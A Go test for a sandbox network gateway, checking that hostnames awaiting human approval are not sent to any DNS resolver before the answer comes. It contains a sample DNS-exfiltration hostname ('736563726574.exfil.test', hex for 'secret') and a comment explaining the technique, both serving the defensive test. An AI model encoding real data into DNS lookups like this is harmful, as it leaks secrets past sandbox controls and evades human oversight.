package gateway

import (
	"context"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sbx-dev/sbx/gateway/approval"
	"github.com/sbx-dev/sbx/netpolicy"
)

// The sandbox chooses the names it asks for, and a name can carry data
// ("<secret in hex>.exfil.test", to a name server the attacker runs). A
// request whose verdict is ask must send its name to no resolver before
// someone allows it: a deny must leave the name unlooked-up, and an
// allow resolves it (and the address guard still refuses what it
// refuses).
func TestAskResolvesNothingBeforeTheAnswer(t *testing.T) {
	var mu sync.Mutex
	var looked []string
	lookedUp := func() []string { mu.Lock(); defer mu.Unlock(); return slices.Clone(looked) }
	spec := netpolicy.Spec{Default: netpolicy.Ask, AskTimeout: netpolicy.Duration(time.Minute)}
	g := startGatewayWith(t, spec, nil, func(cfg *serverConfig) {
		cfg.Resolver = &Resolver{lookupNetIP: func(ctx context.Context, network, host string) ([]netip.Addr, error) {
			mu.Lock()
			looked = append(looked, host)
			mu.Unlock()
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil // refused by the guard
		}}
	})
	c := g.client(t, nil)
	c.Timeout = 10 * time.Second
	answer := func(host string, allow bool) askResult {
		t.Helper()
		ch := getAsync(c, "http://"+host+":8080/")
		q := waitQuestion(t, g.srv, host, 8080, 1)
		time.Sleep(50 * time.Millisecond) // a lookup begun with the question would show by now
		if got := lookedUp(); len(got) != 0 {
			t.Errorf("%s: the resolver was asked for %q while the question was pending, want nothing", host, got)
		}
		if _, err := g.srv.approvals.Answer(q.ID, approval.Answer{Allow: allow, Scope: approval.ScopeOnce, By: approval.ByCLI}); err != nil {
			t.Fatal(err)
		}
		return result(t, ch)
	}

	const denied = "736563726574.exfil.test"
	if r := answer(denied, false); r.status != 403 {
		t.Errorf("denied: got %d, want 403", r.status)
	}
	if got := lookedUp(); len(got) != 0 {
		t.Errorf("after a deny the resolver was asked for %q, want nothing", got)
	}

	r := answer("allowed.test", true)
	if r.status != 403 || r.header.Get(HeaderRule) != netpolicy.RuleGuard {
		t.Errorf("allowed, resolving to loopback: got %d by %q, want 403 by guard", r.status, r.header.Get(HeaderRule))
	}
	if got := lookedUp(); len(got) != 1 || !strings.HasPrefix(got[0], "allowed.test") {
		t.Errorf("after an allow the resolver was asked for %q, want allowed.test", got)
	}
}
